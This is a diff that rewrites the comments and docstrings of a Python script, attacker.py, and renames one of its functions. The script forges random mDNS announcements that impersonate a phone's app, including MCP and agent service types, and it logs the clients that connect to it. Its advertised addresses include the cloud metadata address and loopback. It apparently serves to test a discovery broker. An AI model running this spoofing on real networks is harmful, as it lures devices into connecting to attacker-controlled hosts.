@@ -1,9 +1,9 @@
-"""A machine on the link that forges mDNS packets at random, and counts who connects to it.
+"""A host on the link that sends random forged mDNS packets and reports clients that connect to it.
 
   attacker.py ADDRESS VICTIM APP_PORT BUNDLE BOOT SEED
 
-Its packets copy the app at APP_PORT of the broker's phone in every way that mDNS has. Prints "packets COUNT" every hundred packets,
-and "touched PORT" for each connection that it gets. It goes on until it is killed.
+The packets imitate the app at APP_PORT of the broker's phone in every way that mDNS allows. Prints "packets COUNT" every 100 packets
+and "touched PORT" for each connection to it. Runs until it is killed.
 """
 import random
 import select
@@ -17,7 +17,7 @@ APP_PORT = int(APP_PORT)
 PTR, TXT, SRV, A = 12, 16, 33, 1
 GROUP = ("224.0.0.251", 5353)
 KINDS = ("_appreveal", "_debug", "_mcp", "_openagents")
-# Itself, the broker, cloud metadata, loopback, an address off the link.
+# The attacker, the broker, cloud metadata, loopback, an off-link address.
 ADDRESSES = (ADDRESS, ADDRESS, ADDRESS, VICTIM, "169.254.169.254", "127.0.0.1", "192.0.2.7")
 
 random.seed(int(SEED))
@@ -53,7 +53,7 @@ def advert(instance, kind, host, port, items, address, ttl=120):
 
 
 def twin():
-    """The phone's own app, at another address."""
+    """Announces the phone's app at another address."""
     items = ["bundleId=" + BUNDLE, "version=1", "transport=streamable-http", "auth=session-token"]
     if random.random() < 0.5:
         items.append("boot=" + BOOT)
@@ -61,15 +61,15 @@ def twin():
            random.choice(ADDRESSES), random.choice((0, 1, 120, 120)))
 
 
-def stranger():
-    """One of many apps."""
+def other_app():
+    """Announces one of many apps."""
     number = random.randrange(300)
     advert("app-%d" % number, random.choice(KINDS), "host-%d" % (number % 40), random.choice((1, 22, 80, APP_PORT, 9876, 8765)),
            ["bundleId=com.example.app%d" % number], random.choice(ADDRESSES), random.choice((0, 120)))
 
 
 def names():
-    """Names that nobody answers for."""
+    """Announces unresolvable names."""
     kind = random.choice(KINDS)
     send([((kind, "_tcp", "local"), PTR, 120, name("name-%d" % random.randrange(3000), kind, "_tcp", "local")) for _ in range(10)])
 
@@ -85,7 +85,7 @@ for port in {APP_PORT, 9876, 8765, 80}:
     listeners.append(listener)
 count, began = 0, time.monotonic()
 while True:
-    random.choice((twin, twin, stranger, names, noise))()
+    random.choice((twin, twin, other_app, names, noise))()
     count += 1
     if count % 100 == 0:
         print("packets", count, flush=True)
